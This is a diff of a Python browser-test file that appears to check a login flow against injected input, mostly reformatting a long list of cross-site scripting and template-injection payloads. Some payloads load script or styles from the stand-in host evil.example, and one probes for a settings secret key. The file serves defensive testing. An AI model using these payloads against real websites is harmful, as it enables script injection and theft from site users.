@@ -30,7 +30,7 @@ def alice(stage: Stage, user: User, http_user: HttpUser) -> User:
 
 def test_t34_no_code_and_no_state_goes_anywhere_but_to_the_callback(stage: Stage, user: User, sink: Sink):
     asked, seen = stage.ask(return_url=sink.url("/done")), list[Request]()
-    user.context.on("request", lambda request: seen.append(request))
+    user.context.on("request", lambda request: seen.append(request))  # noqa: PLW0108  it marks its handlers
     user.connect(asked["url"], "alice")
     user.wait_for_page("done", "completed")
     user.page.reload()
@@ -74,22 +74,26 @@ def _values(url: str, *names: str) -> list[str]:
 PAYLOADS = [
     "<script>alert(1)</script>", "<script src=//evil.example/x></script>", "<img src=x onerror=alert(1)>",
     "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert`1`>", "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,x'>x</a>",
-    "<form action=javascript:alert(1)><button>x</form>", "<button formaction=javascript:alert(1)>x</button>",
-    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
-    "<audio src onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
-    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<meta http-equiv=refresh content='0;url=//e'>",
-    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//e)}</style>",
-    "<style>@import'//evil.example'</style>", "</blockquote><script>alert(1)</script>", "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "</bdi><img src=x onerror=alert(1)>",
-    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
-    '" autofocus onfocus="alert(1)', "`onmouseover=alert(1)", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
-    "{{7*7}}{{settings.SECRET_KEY}}", "{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[x](javascript:alert(1))",
-    "![x](x onerror=alert(1))", "[x]: javascript:alert(1)", "<!--<script>alert(1)</script>-->", "--><script>alert(1)</script>",
-    "]]><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\\x3cscript\\x3e",
+    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
+    "<a href='data:text/html,x'>x</a>", "<form action=javascript:alert(1)><button>x</form>",
+    "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<audio src onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
+    "<meta http-equiv=refresh content='0;url=//e'>", "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//e)}</style>",
+    "<style>@import'//evil.example'</style>", "</blockquote><script>alert(1)</script>",
+    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
+    "</noscript><script>alert(1)</script>", "</bdi><img src=x onerror=alert(1)>", '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)', "`onmouseover=alert(1)", "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>", "{{7*7}}{{settings.SECRET_KEY}}", "{% debug %}", "${7*7}", "#{7*7}",
+    "<%= 7*7 %>", "[x](javascript:alert(1))", "![x](x onerror=alert(1))", "[x]: javascript:alert(1)",
+    "<!--<script>alert(1)</script>-->", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\\x3cscript\\x3e",
     "\\u003cscript\\u003ealert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>",
-    "<script\x0c>alert(1)</script>", "<\uff53cript>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<script\x0c>alert(1)</script>", "<ｓcript>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
 ]  # fmt: skip
 
 
@@ -108,7 +112,7 @@ class Watch:
             " (found) => window.violated(`${found.violatedDirective} ${found.blockedURI} ${found.sample}`))"
         )
         page.on("dialog", lambda dialog: (self.happened.append(f"dialog: {dialog.message}"), dialog.dismiss()))
-        page.on("request", lambda request: self._request(request))
+        page.on("request", self._request)
 
     def _request(self, request: Request) -> None:
         if "127.0.0.1" not in request.url and not request.url.startswith("data:image/svg+xml"):
@@ -124,7 +128,8 @@ class Watch:
         assert (self.happened, self.user.complaints) == ([], [])
 
 
-LINKS = "all => all.flatMap(one => [one.href, one.src, one.action, one.formAction]).filter(one => typeof one === 'string' && one)"
+LINKS = """all => all.flatMap(one => [one.href, one.src, one.action, one.formAction])
+  .filter(one => typeof one === 'string' && one)"""
 STRANGE = "script, style, iframe, object, embed, img, video, audio, base, meta, math, [onerror], [onload], [onfocus]"
 
 
